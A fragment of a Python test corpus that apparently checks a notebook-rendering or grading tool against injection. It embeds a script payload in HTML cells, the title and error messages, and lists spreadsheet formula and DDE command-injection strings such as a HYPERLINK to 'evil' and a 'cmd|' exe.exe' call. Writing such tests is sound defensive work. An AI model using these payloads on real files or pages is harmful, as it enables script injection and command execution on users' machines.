        notebook.cells.append(nbformat.v4.new_markdown_cell(text))
    raw_cell = nbformat.v4.new_raw_cell(SCRIPT)
    raw_cell.metadata["raw_mimetype"] = "text/html"
    notebook.cells.append(raw_cell)
    notebook.metadata["title"] = f"</title>{SCRIPT}"
    return notebook


code("page-message", "page", "HTML in error messages and in what the verdict quotes", f"text = {SCRIPT!r}", body="raise ValueError(text)")

# (Names that command a terminal are no ids: test_ids.py.)
for number, name in enumerate(['=HYPERLINK("http:evil","x")', "@SUM(1+1)*cmd|' exe.exe", "+1,000,000", "＝1+1, [x] {0} <b>"]):
    CORPUS.append(
        Attack(f"name-{number}", "page", "a name that is a formula, a column or a terminal command",
               lambda sheet: sheet.filled(ONE), expected=first, folder=name)
    )  # fmt: skip


def fill(notebook, place):
    """The submission's bytes, with the test's own places for `@NAME@`."""
    text = notebook if isinstance(notebook, bytes) else json.dumps(notebook).encode()
    for name, value in place.items():
        text = text.replace(f"@{name}@".encode(), str(value).encode())
    return text


__all__ = ["CORPUS", "Attack", "Sheet", "fill"]
